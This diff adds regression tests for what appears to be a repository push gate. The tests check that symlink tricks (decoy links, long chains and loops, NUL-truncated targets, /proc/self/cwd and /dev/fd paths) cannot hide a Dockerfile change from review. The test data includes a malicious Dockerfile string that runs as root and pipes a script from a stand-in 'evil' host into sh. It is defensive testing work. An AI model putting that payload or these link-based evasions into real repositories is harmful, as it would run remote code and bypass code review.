@@ -130,3 +130,126 @@ describe('attack17 Q5: a tier path that is a symlink charges its target (real se
     );
   });
 });
+
+/** The Q5 layout, planted before the gate: `Dockerfile` -> build/image.txt. */
+function plantQ5(s: Setup): void {
+  plant(s, () => {
+    s.ada.write('build/image.txt', 'FROM alpine:3.19\nUSER app\n');
+    s.ada.git('add', 'build/image.txt');
+    link(s.ada, 'Dockerfile', 'build/image.txt');
+  });
+}
+
+const EVIL = 'FROM alpine:3.19\nUSER root\nRUN curl -s http://evil/x | sh\n';
+
+/** Replaces the folder `build` by a link whose blob is `target` byte for byte (a NUL is kept: checkout cuts there). */
+function buildLinkBlob(repo: TempRepo, target: string): void {
+  repo.git('rm', '-rq', '--cached', 'build');
+  fs.rmSync(path.join(repo.dir, 'build'), { recursive: true, force: true });
+  const blob = repo.gitResult(['hash-object', '-w', '--stdin'], target).stdout.trim();
+  repo.git('update-index', '--add', '--cacheinfo', `120000,${blob},build`);
+}
+
+/**
+ * attack24 07/08/12: the Q5 defence gave up silently where the file system does not — past 64 names of one path,
+ * past 8 links in a chain, at a NUL in a link's target, at an absolute target such as /proc/self/cwd/img — and
+ * treated such a link as harmless. Each attack below landed on main before the fix (seen).
+ */
+describe('attack24 07/08/12: links the gate could not follow are not harmless (real server)', function () {
+  this.timeout(240_000);
+
+  it('07: 70 decoy links to the same file, landed first, do not hide the Dockerfile that names it', () => {
+    const s = setup();
+    plantQ5(s);
+    for (let i = 1; i <= 70; i++) link(s.ada, `A${String(i).padStart(3, '0')}`, 'build/image.txt');
+    s.ada.commit('shortcuts', '-m', HUMAN(70));
+    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'harmless links land');
+    commitFile(s.ada, 'build/image.txt', EVIL, `image tweak\n\n${HUMAN(2)}`);
+    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(r.status, 0, 'the Dockerfile changed: the tier holds it');
+    assert.match(r.stderr, /tier 'infrastructure': touches build\/image\.txt \(through the symlink Dockerfile\)/);
+  });
+
+  it('08: a chain of 10 links is followed as Linux follows it; past 40, or a loop, the added link needs review', () => {
+    const s = setup();
+    plantQ5(s);
+    const chain = (n: number, end: string) => {
+      s.ada.git('reset', '-q', '--hard', 'origin/main');
+      s.ada.git('rm', '-rq', 'build');
+      let prev = end;
+      for (let i = n; i >= 1; i--) {
+        link(s.ada, `h${i}`, prev);
+        prev = `h${i}`;
+      }
+      link(s.ada, 'build', prev);
+    };
+    chain(10, 'img');
+    s.ada.write('img/image.txt', EVIL);
+    s.ada.git('add', 'img');
+    s.ada.commit('layout', '-m', HUMAN(3));
+    const ten = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(ten.status, 0, 'docker reads img/image.txt through 12 links');
+    assert.match(ten.stderr, /tier 'infrastructure': touches img\/image\.txt \(through the symlink Dockerfile\)/);
+    chain(45, 'img');
+    s.ada.write('img/image.txt', EVIL);
+    s.ada.git('add', 'img');
+    s.ada.commit('layout', '-m', HUMAN(3));
+    const long = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(long.status, 0, 'a resolver that follows more links than Linux reads the new image');
+    assert.match(long.stderr, /tier 'infrastructure': touches (build|h\d+) \(a symbolic link .*more than 40/);
+    chain(2, 'h1');
+    s.ada.commit('loop', '-m', HUMAN(3));
+    const loop = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(loop.status, 0, 'a loop the gate cannot follow is no harmless change');
+    assert.match(loop.stderr, /tier 'infrastructure': touches (build|h\d+) \(a symbolic link /);
+  });
+
+  it('08: making a folder a link to content landed earlier changes what the Dockerfile reads', () => {
+    const s = setup();
+    plantQ5(s);
+    commitFile(s.ada, 'img/image.txt', EVIL, `a draft image\n\n${HUMAN(3)}`);
+    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'no tier path reads img/');
+    s.ada.git('rm', '-rq', 'build');
+    link(s.ada, 'build', 'img');
+    s.ada.commit('layout', '-m', HUMAN(1));
+    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(r.status, 0, 'the Dockerfile now reads img/image.txt');
+    assert.match(r.stderr, /tier 'infrastructure': touches build \(through the symlink Dockerfile\)/);
+  });
+
+  it('12: a NUL in a link target is cut there, as checkout cuts it', () => {
+    const s = setup();
+    plantQ5(s);
+    buildLinkBlob(s.ada, 'img\0x');
+    s.ada.write('img/image.txt', EVIL);
+    s.ada.git('add', 'img');
+    s.ada.commit('layout', '-m', HUMAN(3));
+    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(r.status, 0, 'checkout makes build -> img');
+    assert.match(r.stderr, /tier 'infrastructure': touches (img\/image\.txt|build) \(through the symlink Dockerfile\)/);
+  });
+
+  it('12: an absolute target that can lead back into a checkout (/proc/self/cwd, /dev/fd) needs review; /dev/null does not', () => {
+    const s = setup();
+    plantQ5(s);
+    buildLinkBlob(s.ada, '/proc/self/cwd/img');
+    s.ada.write('img/image.txt', EVIL);
+    s.ada.git('add', 'img');
+    s.ada.commit('layout', '-m', HUMAN(3));
+    const r = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(r.status, 0, 'from the repository root, build is img');
+    assert.match(r.stderr, /tier 'infrastructure': touches build \(a symbolic link .*\/proc\/self\/cwd\/img/);
+    s.ada.git('reset', '-q', '--hard', 'origin/main');
+    link(s.ada, 'fd', '/dev/fd/3/img');
+    link(s.ada, 'up', '../../repo/img');
+    s.ada.commit('more links', '-m', HUMAN(2));
+    const fd = verifyThenPush(s.ada, 'main', ['origin', 'main']);
+    assert.notStrictEqual(fd.status, 0);
+    assert.match(fd.stderr, /touches (fd|up) \(a symbolic link /);
+    s.ada.git('reset', '-q', '--hard', 'origin/main');
+    link(s.ada, 'quiet.log', '/dev/null');
+    link(s.ada, 'zone', '/usr/share/zoneinfo/UTC');
+    s.ada.commit('system links', '-m', HUMAN(2));
+    assert.strictEqual(verifyThenPush(s.ada, 'main', ['origin', 'main']).status, 0, 'no checkout lives there');
+  });
+});
